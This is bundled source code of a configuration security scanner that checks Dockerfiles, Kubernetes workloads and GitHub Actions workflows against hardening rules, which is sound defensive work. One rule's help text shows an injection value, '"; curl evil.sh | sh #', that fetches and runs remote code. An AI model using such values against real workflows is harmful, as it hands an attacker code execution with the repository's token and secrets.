            message: `${ins.keyword} ${a.name} in ${stage ? `stage ${stageLabel(stage)}` : 'the global ARGs'} sets a literal credential (${redact(a.value)}), ${persisted}; remove it and rotate the credential.`,
            line: ins.lineOf(a.offset),
            identity: `stage:${stageLabel(stage)}:${ins.keyword}:${a.name}`,
            // A default ARG value is readable too, but only in the build history and it is often a placeholder.
            severity: ins.keyword === 'ENV' ? 'high' : 'medium',
            confidence: ins.keyword === 'ENV' ? 0.8 : 0.7,
            tags: [`stage:${stageLabel(stage)}`],
        });
    }
    return hits;
}

;// CONCATENATED MODULE: ./actions/scan/src/manifests/dockerfile/scanner.ts



/** Names that only look like Dockerfile variants: the ignore file, docs, and source code about Dockerfiles. */
const NOT_A_DOCKERFILE = /\.(dockerignore|md|txt|rst|adoc|html|json|ya?ml|toml|xml|lock|snap|ts|tsx|js|mjs|cjs|go|py|rb|rs|java|kt|cs|php|sh|ps1|bat)$/;
/** More unknown instructions than this and the file is something else named like a Dockerfile. */
const MAX_UNKNOWN_INSTRUCTIONS = 3;
/** Dockerfile, Containerfile, Dockerfile.prod, api.Dockerfile (not Dockerfile.dockerignore, docs or code). */
function isDockerfileName(baseName) {
    const lower = baseName.toLowerCase();
    if (NOT_A_DOCKERFILE.test(lower))
        return false;
    return (lower === 'dockerfile' ||
        lower === 'containerfile' ||
        lower.endsWith('.dockerfile') ||
        lower.startsWith('dockerfile.') ||
        lower.startsWith('containerfile.'));
}
function containerScanner() {
    return manifestScanner({
        name: 'containers',
        family: { kind: 'container', eventType: 'misconfiguration.container', tags: ['container', 'dockerfile'] },
        wants: (_rel, base) => isDockerfileName(base),
        analyse(file) {
            const dockerfile = parseDockerfile(file.text);
            const unknown = dockerfile.problems.filter((p) => p.reason.startsWith('unknown instruction'));
            if (unknown.length > MAX_UNKNOWN_INSTRUCTIONS) {
                const reason = `not a Dockerfile (${unknown.length} unknown instructions, the first: ${unknown[0].reason.slice('unknown instruction '.length)}); not analysed`;
                return { hits: [], warnings: [{ line: unknown[0].line, reason }], examined: false };
            }
            const warnings = dockerfile.problems.map((p) => ({ line: p.line, reason: `Dockerfile: ${p.reason}` }));
            if (dockerfile.stages.length === 0) {
                warnings.push({ line: 1, reason: 'Dockerfile: no FROM instruction; not analysed' });
                return { hits: [], warnings, examined: false };
            }
            return { hits: checkDockerfile(dockerfile), warnings, examined: true };
        },
    });
}

;// CONCATENATED MODULE: ./actions/scan/src/manifests/kubernetes/workloads.ts

/**
 * Kubernetes workloads found in YAML files: which documents are manifests (apiVersion + kind), where each
 * workload kind keeps its pod spec, and every container with the lines the rules and the runtime-alert
 * lookup point at. Helm-rendered output (multi-document YAML with `# Source:` comments) is plain YAML and
 * reads like any other; unrendered Helm templates are recognised and left out with a warning.
 */
/** Where each workload kind keeps its pod spec. */
const POD_SPEC_PATHS = {
    Pod: ['spec'],
    Deployment: ['spec', 'template', 'spec'],
    StatefulSet: ['spec', 'template', 'spec'],
    DaemonSet: ['spec', 'template', 'spec'],
    ReplicaSet: ['spec', 'template', 'spec'],
    ReplicationController: ['spec', 'template', 'spec'],
    Job: ['spec', 'template', 'spec'],
    CronJob: ['spec', 'jobTemplate', 'spec', 'template', 'spec'],
};
/** `namespace/Kind/name`, with kubectl's `default` when the manifest sets no namespace. */
function workloadLabel(w) {
    return `${w.namespace ?? 'default'}/${w.kind}/${w.name}`;
}
/** Cheap test before parsing: manifests have top-level apiVersion and kind keys. */
function mightBeKubernetes(text) {
    return /^\s*(?:-\s+)?apiVersion\s*:/m.test(text) && /^\s*(?:-\s+)?kind\s*:/m.test(text);
}
/**
 * Helm template syntax: a Go template action at the start of a line (never valid in rendered YAML, where
 * text at column 0 is a key), or one that uses Helm's own objects and functions. Rendered manifests may
 * still carry `{{ $labels.x }}` in ConfigMaps (Prometheus, Alertmanager templates) and `${{ }}` (GitHub
 * expressions): those are data and stay analysed.
 */
const HELM_TEMPLATE = /^\{\{|(?<!\$)\{\{-?[^}\n]*?(?:\.Values\b|\.Release\b|\.Chart\b|\.Capabilities\b|\.Files\b|\binclude\s|\btemplate\s+"|\btoYaml\b|\bnindent\b|\btpl\s)/m;
function isUnrenderedHelmTemplate(text) {
    return HELM_TEMPLATE.test(text);
}
function readKubernetesFile(path, text) {
    const empty = { workloads: [], manifests: 0, problems: [], helmTemplate: false };
    if (!mightBeKubernetes(text))
        return empty;
    if (isUnrenderedHelmTemplate(text)) {
        const at = text.search(HELM_TEMPLATE);
        const line = text.slice(0, at).split('\n').length;
        return {
            ...empty,
            helmTemplate: true,
            problems: [{ line, reason: 'unrendered Helm template ({{ }}): not analysed; scan the output of `helm template` instead' }],
        };
    }
    const parsed = parseYamlFile(text, '1.1');
    const workloads = [];
    let manifests = 0;
    for (const view of parsed.documents) {
        const root = view.map(view.contents);
        if (!root)
            continue;
        const helmSource = helmSourceOf(view);
        for (const object of listItems(view, root)) {
            const apiVersion = view.text(view.get(object, 'apiVersion'));
            const kind = view.text(view.get(object, 'kind'));
            if (!apiVersion || !kind)
                continue;
            manifests++;
            const workload = toWorkload(path, view, object, apiVersion, kind, helmSource);
            if (workload)
                workloads.push(workload);
        }
    }
    return { workloads, manifests, problems: parsed.problems, helmTemplate: false };
}
/** A `kind: List` (kubectl get -o yaml) holds its objects under `items`; anything else is itself. */
function listItems(view, root) {
    const kind = view.text(view.get(root, 'kind'));
    if (kind !== 'List' && !(kind?.endsWith('List') && view.get(root, 'items')))
        return [root];
    return view.items(view.get(root, 'items')).flatMap((n) => {
        const m = view.map(n);
        return m ? [m] : [];
    });
}
function helmSourceOf(view) {
    const comment = view.doc.commentBefore ?? view.map(view.contents)?.commentBefore ?? '';
    const m = /^\s*Source:\s*(\S+)/m.exec(comment);
    return m?.[1];
}
function toWorkload(path, view, object, apiVersion, kind, helmSource) {
    const specPath = POD_SPEC_PATHS[kind];
    if (!specPath)
        return undefined;
    const podSpec = view.map(view.get(object, ...specPath));
    const name = view.text(view.get(object, 'metadata', 'name'));
    if (!podSpec || !name)
        return undefined;
    const namespace = view.text(view.get(object, 'metadata', 'namespace'));
    const kindPair = view.pair(object, 'kind');
    const line = view.line(kindPair) ?? view.line(object) ?? 1;
    const containers = [];
    for (const [field, role] of [['initContainers', 'initContainer'], ['containers', 'container']]) {
        view.items(view.get(podSpec, field)).forEach((item, index) => {
            const node = view.map(item);
            if (!node)
                return;
            const namePair = view.pair(node, 'name');
            const imagePair = view.pair(node, 'image');
            const image = view.text(imagePair?.value);
            containers.push({
                name: view.text(namePair?.value) ?? `${field}[${index}]`,
                role,
                node,
                line: view.line(namePair) ?? view.line(node) ?? line,
                ...(image !== undefined ? { image } : {}),
                ...(imagePair ? { imageLine: view.line(imagePair) } : {}),
            });
        });
    }
    return {
        apiVersion,
        kind,
        name,
        ...(namespace ? { namespace } : {}),
        path,
        view,
        manifest: object,
        podSpec,
        line,
        endLine: view.endLine(object) ?? line,
        nameLine: view.line(view.pair(view.get(object, 'metadata'), 'name')) ?? line,
        ...(helmSource ? { helmSource } : {}),
        containers,
    };
}

;// CONCATENATED MODULE: ./actions/scan/src/manifests/kubernetes/rules.ts



const PSS = 'https://kubernetes.io/docs/concepts/security/pod-security-standards/';
const SECURITY_CONTEXT = 'https://kubernetes.io/docs/tasks/configure-pod-container/security-context/';
function rule(id, name, severity, help, fix, extra = {}) {
    return { id: `secloop.k8s.${id}`, name, severity, help, fix, confidence: 0.9, helpUri: PSS, ...extra };
}
const K8S_RULES = {
    privileged: rule('privileged', 'Privileged container', 'high', 'A privileged container has every capability and sees the host\'s devices: a compromise of it is a compromise ' +
        'of the node. Remove `securityContext.privileged: true`; grant only the specific capability the workload needs.', 'Remove privileged: true (or set it to false).', { cwe: ['CWE-250'] }),
    runAsRoot: rule('run-as-root', 'Container runs as root (runAsUser 0)', 'high', 'runAsUser: 0 makes the process root inside the container. Run as an unprivileged UID ' +
        '(`runAsUser: 10001`, `runAsNonRoot: true`) and make the image work without root.', 'Set runAsUser to a non-zero UID and runAsNonRoot: true.', { cwe: ['CWE-250'], helpUri: SECURITY_CONTEXT }),
    runAsNonRoot: rule('run-as-non-root', 'runAsNonRoot not enforced', 'medium', 'Neither the pod nor the container sets `runAsNonRoot: true` (or a non-zero runAsUser), so the container ' +
        'runs as whatever user the image defaults to, usually root. Set `securityContext.runAsNonRoot: true` at ' +
        'pod level so the kubelet refuses to start a root container.', 'Set securityContext.runAsNonRoot: true (pod or container level).', { cwe: ['CWE-250'], helpUri: SECURITY_CONTEXT, confidence: 0.8 }),
    privilegeEscalation: rule('allow-privilege-escalation', 'Privilege escalation allowed', 'medium', 'allowPrivilegeEscalation defaults to true: a setuid binary in the image can gain more privileges than the ' +
        'process started with. Set `securityContext.allowPrivilegeEscalation: false` on every container.', 'Set allowPrivilegeEscalation: false.', { cwe: ['CWE-269'], helpUri: SECURITY_CONTEXT }),
    hostNamespace: rule('host-namespace', 'Host namespace shared', 'high', 'hostNetwork, hostPID or hostIPC put the pod in the node\'s namespaces: it can sniff node traffic, bind node ' +
        'ports, see and signal every process, or read shared memory of other workloads. Remove them unless the ' +
        'workload is node infrastructure, and then isolate it in its own namespace with a restricted policy.', 'Remove hostNetwork/hostPID/hostIPC (or set them to false).', { cwe: ['CWE-668'] }),
    hostPath: rule('host-path', 'hostPath volume', 'medium', 'A hostPath volume mounts a directory of the node into the pod; writable mounts of /, /etc, /var/run or the ' +
        'container runtime socket hand over the node. Use emptyDir, a ConfigMap/Secret, or a PersistentVolumeClaim.', 'Replace the hostPath volume with emptyDir, a ConfigMap/Secret or a PVC.', { cwe: ['CWE-668'] }),
    capabilities: rule('added-capabilities', 'Dangerous capabilities added', 'high', 'The container adds Linux capabilities beyond the Pod Security "baseline" set. SYS_ADMIN is nearly root, ' +
        'NET_ADMIN reconfigures networking, ALL is everything. Drop ALL and add back only what is needed ' +
        '(usually nothing, or NET_BIND_SERVICE).', 'Remove the added capabilities; use capabilities: {drop: [ALL]}.', { cwe: ['CWE-250'], helpUri: SECURITY_CONTEXT }),
    resourceLimits: rule('resource-limits', 'Missing resource limits', 'low', 'Without CPU and memory limits one container can starve the node (a leak or a denial of service takes its ' +
        'neighbours down with it). Set `resources.limits.cpu` and `resources.limits.memory`, and requests.', 'Set resources.limits.cpu and resources.limits.memory.', { cwe: ['CWE-770'], helpUri: 'https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/' }),
    probes: rule('missing-probe', 'Missing liveness or readiness probe', 'low', 'Without a readinessProbe traffic reaches pods that cannot serve it; without a livenessProbe a hung process ' +
        'is never restarted. Add both (an HTTP or TCP check of the serving port).', 'Add livenessProbe and readinessProbe.', {
        confidence: 0.7,
        helpUri: 'https://kubernetes.io/docs/tasks/configure-pod-container/configure-liveness-readiness-startup-probes/',
    }),
    imageTag: rule('image-tag', 'Image not pinned', 'medium', 'The image is untagged or `:latest`: each node may run a different build, rollbacks are impossible, and a ' +
        'pushed tag changes production. Pin a version tag and digest (`image: repo/app:1.4.2@sha256:...`).', 'Pin the image to a version tag and digest.', { cwe: ['CWE-1357'], helpUri: 'https://kubernetes.io/docs/concepts/containers/images/#image-names' }),
    secretEnv: rule('plaintext-secret-env', 'Plain-text secret in env', 'high', 'A credential is written into the manifest as an env `value:`: it is readable by anyone with the repository ' +
        'or `get` on the workload. Store it in a Secret and reference it with `valueFrom.secretKeyRef`, then rotate it.', 'Move the value to a Secret and use valueFrom.secretKeyRef; rotate the credential.', { cwe: ['CWE-798', 'CWE-312'], helpUri: 'https://kubernetes.io/docs/concepts/configuration/secret/', confidence: 0.8 }),
    readOnlyRoot: rule('read-only-root-filesystem', 'Writable root filesystem', 'low', 'A writable root filesystem lets an attacker drop tools and modify binaries in the running container. Set ' +
        '`readOnlyRootFilesystem: true` and mount an emptyDir where the application must write.', 'Set readOnlyRootFilesystem: true (emptyDir for writable paths).', { cwe: ['CWE-732'], helpUri: SECURITY_CONTEXT, confidence: 0.8 }),
};
/** Capabilities Pod Security "baseline" allows; adding anything else is reported. */
const BASELINE_CAPABILITIES = new Set([
    'AUDIT_WRITE', 'CHOWN', 'DAC_OVERRIDE', 'FOWNER', 'FSETID', 'KILL', 'MKNOD', 'NET_BIND_SERVICE', 'SETFCAP',
    'SETGID', 'SETPCAP', 'SETUID', 'SYS_CHROOT',
]);
const CRITICAL_CAPABILITIES = new Set(['ALL', 'SYS_ADMIN', 'NET_ADMIN', 'SYS_PTRACE', 'SYS_MODULE', 'SYS_RAWIO', 'BPF', 'DAC_READ_SEARCH', 'PERFMON']);
/** Host paths whose mount hands over the node. */
const SENSITIVE_HOST_PATH = /^\/(?:$|etc\b|root\b|proc\b|sys\b|boot\b|dev\b|var\/run\b|run\b|var\/lib\/(?:kubelet|docker|containerd)\b|.*\.sock$)/;
/** Workloads that run to completion: probes are for servers. */
const BATCH_KINDS = new Set(['Job', 'CronJob']);
function checkWorkload(w) {
    const hits = [];
    const label = workloadLabel(w);
    const baseTags = [`workload:${label}`, `namespace:${w.namespace ?? 'default'}`, `kind:${w.kind}`, ...(w.helmSource ? [`helm-source:${w.helmSource}`] : [])];
    const { view, podSpec } = w;
    const podSecurity = view.get(podSpec, 'securityContext');
    for (const field of ['hostNetwork', 'hostPID', 'hostIPC']) {
        const pair = view.pair(podSpec, field);
        if (pair && view.scalar(pair.value) === true) {
            hits.push({
                rule: K8S_RULES.hostNamespace,
                message: `${w.kind} ${label} sets ${field}: true, sharing the node's ${field.slice(4).toLowerCase()} namespace.`,
                line: view.line(pair),
                identity: `${label}:${field}`,
                tags: baseTags,
            });
        }
    }
    for (const volume of view.items(view.get(podSpec, 'volumes'))) {
        const hostPathPair = view.pair(volume, 'hostPath');
        if (!hostPathPair)
            continue;
        const volumeName = view.text(view.get(volume, 'name')) ?? '?';
        const hostPath = view.text(view.get(hostPathPair.value, 'path')) ?? '?';
        const sensitive = SENSITIVE_HOST_PATH.test(hostPath);
        hits.push({
            rule: K8S_RULES.hostPath,
            message: `${w.kind} ${label} mounts the node's ${hostPath} (hostPath volume ${volumeName})${sensitive ? ', a path that gives control of the node' : ''}.`,
            line: view.line(hostPathPair),
            identity: `${label}:volume:${volumeName}`,
            severity: sensitive ? 'high' : 'medium',
            tags: baseTags,
        });
    }
    for (const c of w.containers)
        hits.push(...checkContainer(w, c, podSecurity, label, baseTags));
    return hits;
}
function checkContainer(w, c, podSecurity, label, baseTags) {
    const { view } = w;
    const hits = [];
    const who = `${c.role === 'initContainer' ? 'Init container' : 'Container'} ${c.name} of ${w.kind} ${label}`;
    const id = `${label}:${c.role}:${c.name}`;
    const tags = [...baseTags, `container:${c.name}`];
    const security = view.get(c.node, 'securityContext');
    const at = (pair) => view.line(pair) ?? c.line;
    const hit = (r, message, pair, extra = {}) => hits.push({ rule: r, message, line: at(pair), identity: `${id}${extra.identity ? `:${extra.identity}` : ''}`, tags, ...omitIdentity(extra) });
    const privileged = view.pair(security, 'privileged');
    if (privileged && view.scalar(privileged.value) === true) {
        hit(K8S_RULES.privileged, `${who} is privileged (full access to the node's devices and kernel).`, privileged);
    }
    const runAsUser = view.pair(security, 'runAsUser') ?? view.pair(podSecurity, 'runAsUser');
    const runAsNonRoot = view.pair(security, 'runAsNonRoot') ?? view.pair(podSecurity, 'runAsNonRoot');
    const uid = view.scalar(runAsUser?.value);
    if (uid === 0) {
        hit(K8S_RULES.runAsRoot, `${who} runs as root (runAsUser: 0).`, runAsUser);
    }
    else if (view.scalar(runAsNonRoot?.value) !== true && !(typeof uid === 'number' && uid > 0)) {
        const why = runAsNonRoot ? 'runAsNonRoot is not true' : 'neither it nor its pod sets runAsNonRoot: true or a non-zero runAsUser';
        hit(K8S_RULES.runAsNonRoot, `${who} may run as root: ${why}.`, runAsNonRoot);
    }
    const escalation = view.pair(security, 'allowPrivilegeEscalation');
    if (view.scalar(escalation?.value) !== false) {
        hit(K8S_RULES.privilegeEscalation, `${who} ${escalation ? 'allows' : 'does not forbid'} privilege escalation (allowPrivilegeEscalation is not false).`, escalation);
    }
    const readOnly = view.pair(security, 'readOnlyRootFilesystem');
    if (view.scalar(readOnly?.value) !== true) {
        hit(K8S_RULES.readOnlyRoot, `${who} has a writable root filesystem (readOnlyRootFilesystem is not true).`, readOnly);
    }
    const addPair = view.pair(view.get(security, 'capabilities'), 'add');
    const added = view.items(addPair?.value).map((n) => (view.text(n) ?? '').toUpperCase().replace(/^CAP_/, '')).filter(Boolean);
    const extra = added.filter((cap) => !BASELINE_CAPABILITIES.has(cap));
    if (extra.length > 0) {
        const dangerous = extra.some((cap) => CRITICAL_CAPABILITIES.has(cap));
        hit(K8S_RULES.capabilities, `${who} adds capabilities ${extra.join(', ')}.`, addPair, { severity: dangerous ? 'high' : 'medium' });
    }
    const resources = view.pair(c.node, 'resources');
    const limits = view.get(resources?.value, 'limits');
    const missingLimits = ['cpu', 'memory'].filter((r) => view.pair(limits, r) === undefined);
    if (missingLimits.length > 0) {
        hit(K8S_RULES.resourceLimits, `${who} has no ${missingLimits.join(' or ')} limit.`, resources, {
            severity: missingLimits.includes('memory') ? 'medium' : 'low',
        });
    }
    if (c.role === 'container' && !BATCH_KINDS.has(w.kind)) {
        const missing = ['livenessProbe', 'readinessProbe'].filter((p) => view.pair(c.node, p) === undefined);
        if (missing.length > 0)
            hit(K8S_RULES.probes, `${who} has no ${missing.join(' and no ')}.`, undefined);
    }
    if (c.image !== undefined) {
        const ref = parseImageReference(c.image);
        if (!ref.digest && (ref.tag === undefined || ref.tag === 'latest')) {
            const what = ref.tag === 'latest' ? 'uses the floating `latest` tag' : 'has no tag (the registry serves `latest`)';
            hits.push({ rule: K8S_RULES.imageTag, message: `${who}: image ${c.image} ${what}.`, line: c.imageLine ?? c.line, identity: id, tags });
        }
    }
    for (const env of view.items(view.get(c.node, 'env'))) {
        const name = view.text(view.get(env, 'name'));
        const valuePair = view.pair(env, 'value');
        const value = view.text(valuePair?.value);
        if (!name || value === undefined || !looksLikeSecretName(name) || isReferenceValue(value))
            continue;
        hit(K8S_RULES.secretEnv, `${who} sets ${name} to a literal value (${redact(value)}); use valueFrom.secretKeyRef.`, valuePair, {
            identity: `env:${name}`,
        });
    }
    return hits;
}
function omitIdentity(extra) {
    const { identity: _identity, ...rest } = extra;
    return rest;
}

;// CONCATENATED MODULE: ./actions/scan/src/manifests/kubernetes/scanner.ts



function isYamlPath(relativePath) {
    return /\.ya?ml$/i.test(relativePath);
}
function kubernetesScanner() {
    return manifestScanner({
        name: 'kubernetes',
        family: { kind: 'kubernetes', eventType: 'misconfiguration.kubernetes', tags: ['kubernetes'] },
        wants: (rel) => isYamlPath(rel),
        analyse(file) {
            const k8s = readKubernetesFile(file.relativePath, file.text);
            const hits = k8s.workloads.flatMap(checkWorkload);
            const warnings = k8s.problems.map((p) => ({ ...(p.line ? { line: p.line } : {}), reason: p.reason }));
            return { hits, warnings, examined: k8s.manifests > 0 };
        },
    });
}

;// CONCATENATED MODULE: ./actions/scan/src/manifests/workflows/model.ts

function readWorkflowFile(text, isActionFile) {
    const parsed = parseYamlFile(text, '1.2');
    const problems = [...parsed.problems];
    if (parsed.documents.length > 1)
        problems.push({ reason: 'more than one YAML document; GitHub reads only a single document, the first was analysed' });
    const view = parsed.documents[0];
    const root = view?.map(view.contents);
    if (!view || !root) {
        if (problems.length === 0)
            problems.push({ line: 1, reason: isActionFile ? 'not an action definition (no mapping at the top)' : 'not a workflow (no mapping at the top)' });
        return { problems };
    }
    if (isActionFile) {
        const runs = view.get(root, 'runs');
        if (!runs)
            return { problems: [...problems, { line: 1, reason: 'action definition without runs:' }] };
        const composite = view.text(view.get(runs, 'using')) === 'composite';
        const steps = composite ? readSteps(view, view.get(runs, 'steps')) : [];
        const runsPair = view.pair(root, 'runs');
        const job = { id: 'composite', pair: runsPair, line: view.line(runsPair) ?? 1, node: runs, steps };
        // A Docker action's image is a `uses` of its own: the same pinning rule applies.
        const image = view.pair(runs, 'image');
        const imageText = view.text(image?.value);
        if (image && imageText?.startsWith('docker://')) {
            steps.push({ key: 'runs.image', index: -1, node: runs, line: view.line(image) ?? 1, uses: imageText, usesPair: image, with: new Map() });
        }
        return { workflow: { kind: composite ? 'composite-action' : 'action', view, triggers: new Set(), jobs: [job] }, problems };
    }
    const jobsNode = view.get(root, 'jobs');
    if (!jobsNode)
        return { problems: [...problems, { line: 1, reason: 'not a workflow (no jobs:)' }] };
    const jobs = [];
    for (const { key, pair, value } of view.entries(jobsNode)) {
        const usesPair = view.pair(value, 'uses');
        const uses = view.text(usesPair?.value);
        const permissions = view.pair(value, 'permissions');
        jobs.push({
            id: key,
            pair,
            line: view.line(pair) ?? 1,
            node: value,
            ...(permissions ? { permissions } : {}),
            ...(uses !== undefined && usesPair ? { uses, usesPair } : {}),
            steps: readSteps(view, view.get(value, 'steps')),
        });
    }
    const permissions = view.pair(root, 'permissions');
    return { workflow: { kind: 'workflow', view, triggers: triggersOf(view, view.get(root, 'on')), ...(permissions ? { permissions } : {}), jobs }, problems };
}
/** `on: push`, `on: [push, pull_request]` or `on: {push: ..., pull_request_target: ...}`. */
function triggersOf(view, on) {
    const single = view.text(on);
    if (single !== undefined)
        return new Set([single]);
    const listed = view.items(on).map((n) => view.text(n)).filter((t) => t !== undefined);
    if (listed.length > 0)
        return new Set(listed);
    return new Set(view.entries(on).map((e) => e.key));
}
function readSteps(view, stepsNode) {
    const steps = [];
    const seen = new Map();
    view.items(stepsNode).forEach((node, index) => {
        if (!view.map(node))
            return;
        const id = view.text(view.get(node, 'id'));
        const name = view.text(view.get(node, 'name'));
        const usesPair = view.pair(node, 'uses');
        const uses = view.text(usesPair?.value);
        const runPair = view.pair(node, 'run');
        const run = view.text(runPair?.value);
        const base = id ? `id:${id}` : name ? `name:${name}` : uses ? `uses:${uses.replace(/@.*$/, '')}` : `#${index}`;
        // Two unnamed steps using the same action: the n-th of them, which does not move when others are added.
        const count = seen.get(base) ?? 0;
        seen.set(base, count + 1);
        const withEntries = new Map();
        for (const e of view.entries(view.get(node, 'with'))) {
            const value = view.text(e.value);
            if (value !== undefined)
                withEntries.set(e.key, { value, pair: e.pair });
        }
        const runNode = view.deref(runPair?.value);
        steps.push({
            key: count === 0 ? base : `${base}#${count}`,
            index,
            node,
            line: view.line(node) ?? 1,
            ...(uses !== undefined && usesPair ? { uses, usesPair } : {}),
            ...(run !== undefined && runNode ? { run, runNode } : {}),
            with: withEntries,
        });
    });
    return steps;
}

;// CONCATENATED MODULE: ./actions/scan/src/manifests/workflows/rules.ts

const HARDENING = 'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions';
const WORKFLOW_RULES = {
    unpinnedAction: {
        id: 'secloop.workflow.unpinned-action',
        name: 'Action not pinned to a commit SHA',
        help: 'A tag or branch can be moved to other code at any time (tj-actions/changed-files, 2025): the workflow then ' +
            'runs it with your token and secrets. Pin every action to a full 40-character commit SHA and keep the ' +
            'version in a comment (`uses: owner/action@<sha> # v4.1.0`); Dependabot and Renovate update such pins.',
        helpUri: `${HARDENING}#using-third-party-actions`,
        cwe: ['CWE-829'],
        severity: 'medium',
        confidence: 0.95,
        fix: 'Pin the action to a full commit SHA (uses: owner/repo@<40-hex sha> # vX.Y.Z).',
    },
    untrustedCheckout: {
        id: 'secloop.workflow.untrusted-checkout',
        name: 'Pull request code checked out in a privileged workflow',
        help: '`pull_request_target` and `workflow_run` run with a write token and the repository secrets. Checking out ' +
            'the pull request head there and then building or running it ("pwn request") runs an outsider\'s code ' +
            'with those privileges. Build untrusted code in a `pull_request` workflow (no secrets) and hand results ' +
            'over as artifacts, or never execute anything from the checked-out tree.',
        helpUri: 'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/',
        cwe: ['CWE-829', 'CWE-94'],
        severity: 'critical',
        confidence: 0.85,
        fix: 'Do not execute the PR head in pull_request_target/workflow_run; move the build to a pull_request workflow.',
    },
    scriptInjection: {
        id: 'secloop.workflow.script-injection',
        name: 'Untrusted input interpolated into a script',
        help: '`${{ }}` is expanded into the script text before the shell runs it, so an issue title or branch name such ' +
            'as `"; curl evil.sh | sh #` becomes code. Pass the value through an environment variable and quote it: ' +
            '`env: TITLE: ${{ github.event.issue.title }}` then `run: echo "$TITLE"` (in github-script, read `context.payload`).',
        helpUri: `${HARDENING}#understanding-the-risk-of-script-injections`,
        cwe: ['CWE-94', 'CWE-78'],
        severity: 'high',
        confidence: 0.9,
        fix: 'Move the expression to env: and reference the variable in quotes.',
    },
    permissions: {
        id: 'secloop.workflow.permissions',
        name: 'GITHUB_TOKEN permissions not restricted',
        help: 'Without a `permissions:` block the job\'s GITHUB_TOKEN gets the repository default, which is read/write on ' +
            'contents, packages, pull requests and more in many repositories; `write-all` grants everything. Declare ' +
            'least privilege at the top (`permissions: {contents: read}`) and widen it per job only where needed.',
        helpUri: 'https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token',
        cwe: ['CWE-272'],
        severity: 'medium',
        confidence: 0.8,
        fix: 'Add permissions: {contents: read} at the top level and grant more per job only where needed.',
    },
};
/** Triggers that run with secrets and a write token even when an outsider starts them. */
const PRIVILEGED_TRIGGERS = new Set([
    'pull_request_target', 'workflow_run', 'issues', 'issue_comment', 'discussion', 'discussion_comment',
    'pull_request_review', 'pull_request_review_comment',
]);
const CHECKOUT_TRIGGERS = ['pull_request_target', 'workflow_run'];
/** Event fields anyone who can open an issue or a fork PR chooses (GitHub Security Lab's list). */
const UNTRUSTED_CONTEXT = new RegExp([
    String.raw `github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)\b`,
    String.raw `github\.event\.(?:comment|review|review_comment)\.body\b`,
    String.raw `github\.event\.pages(?:\[[^\]]*\]|\.\*)?\.page_name\b`,
    String.raw `github\.event\.commits(?:\[[^\]]*\]|\.\*)?\.(?:message|author\.(?:email|name))\b`,
    String.raw `github\.event\.head_commit\.(?:message|author\.(?:email|name)|committer\.(?:email|name))\b`,
    String.raw `github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)\b`,
    String.raw `github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)))\b`,
    String.raw `github\.event\.workflow_run\.pull_requests(?:\[[^\]]*\]|\.\*)?\.head\.ref\b`,
    String.raw `github\.head_ref\b`,
    // The whole event (or a whole issue/PR/comment) serialised into the script carries the fields above.
    String.raw `toJSON\(\s*github\.event(?:\.(?:issue|pull_request|comment|review|discussion|head_commit|commits))?\s*\)`,
].join('|'), 'g');
/** A `ref:`/`repository:` that names the pull request's head instead of the base. */
const UNTRUSTED_REF = /github\.event\.pull_request\.(?:head\.(?:sha|ref|repo\.full_name)|merge_commit_sha|number)|github\.head_ref|github\.event\.workflow_run\.(?:head_sha|head_branch|head_commit\.id|head_repository\.full_name)|github\.event\.number|refs\/pull\//;
/** Shell commands that fetch the PR head themselves. */
const SHELL_CHECKOUT = /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|checkout|switch|pull)\b[^\n]*(?:pull\/|\$\{\{[^}]*(?:head|number))/;
const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;
function checkWorkflow(w) {
    const hits = [];
    for (const job of w.jobs) {
        hits.push(...unpinned(w, job));
        hits.push(...injections(w, job));
        if (w.kind === 'workflow')
            hits.push(...untrustedCheckouts(w, job));
    }
    if (w.kind === 'workflow')
        hits.push(...permissions(w));
    return hits;
}
function jobLabel(w, job) {
    return w.kind === 'workflow' ? `job ${job.id}` : 'the composite action';
}
function stepLabel(step) {
    if (step.key.startsWith('id:') || step.key.startsWith('name:'))
        return `step ${JSON.stringify(step.key.slice(step.key.indexOf(':') + 1))}`;
    return `step ${step.index + 1}`;
}
/** Owners whose actions GitHub publishes: still mutable tags, but a smaller risk than anyone's. */
const GITHUB_OWNED = new Set(['actions', 'github']);
function unpinned(w, job) {
    const hits = [];
    const uses = job.steps.flatMap((s) => s.uses !== undefined && s.usesPair ? [{ text: s.uses, pair: s.usesPair, where: `${stepLabel(s)} of ${jobLabel(w, job)}`, key: s.key }] : []);
    if (job.uses !== undefined && job.usesPair)
        uses.push({ text: job.uses, pair: job.usesPair, where: `${jobLabel(w, job)} (reusable workflow)`, key: 'job-uses' });
    for (const u of uses) {
        const text = u.text.trim();
        if (text.startsWith('./') || text.startsWith('.\\'))
            continue;
        const line = w.view.line(u.pair);
        const identity = `job:${job.id}:${u.key}`;
        if (text.startsWith('docker://')) {
            const ref = parseImageReference(text.slice('docker://'.length));
            if (ref.digest)
                continue;
            hits.push({
                rule: WORKFLOW_RULES.unpinnedAction,
                message: `${u.where} runs the container ${text} by tag; pin it by digest (docker://image@sha256:...).`,
                line,
                identity,
                tags: [`job:${job.id}`],
            });
            continue;
        }
        const at = text.lastIndexOf('@');
        const action = at < 0 ? text : text.slice(0, at);
        const ref = at < 0 ? '' : text.slice(at + 1);
        if (/^[0-9a-f]{40}$/i.test(ref))
            continue;
        const owner = action.split('/')[0].toLowerCase();
        const githubOwned = GITHUB_OWNED.has(owner);
        const shortSha = /^[0-9a-f]{7,39}$/i.test(ref);
        // A branch moves with every push; a tag only when someone re-points it (which attackers do).
        const branchLike = ref === '' || (!shortSha && !/^v?\d+(\.\d+)*([-.+][\w.]+)?$/.test(ref));
        const severity = githubOwned ? 'low' : branchLike ? 'high' : 'medium';
        const what = ref === '' ? 'with no ref' : shortSha ? `by an abbreviated SHA (${ref})` : `by ${branchLike ? 'branch' : 'tag'} ${ref}`;
        hits.push({
            rule: WORKFLOW_RULES.unpinnedAction,
            message: `${u.where} uses ${action} ${what}, which can be moved to other code; pin a full commit SHA.`,
            line,
            identity: `${identity}:${action}`,
            severity,
            tags: [`job:${job.id}`, githubOwned ? 'github-owned-action' : 'third-party-action'],
        });
    }
    return hits;
}
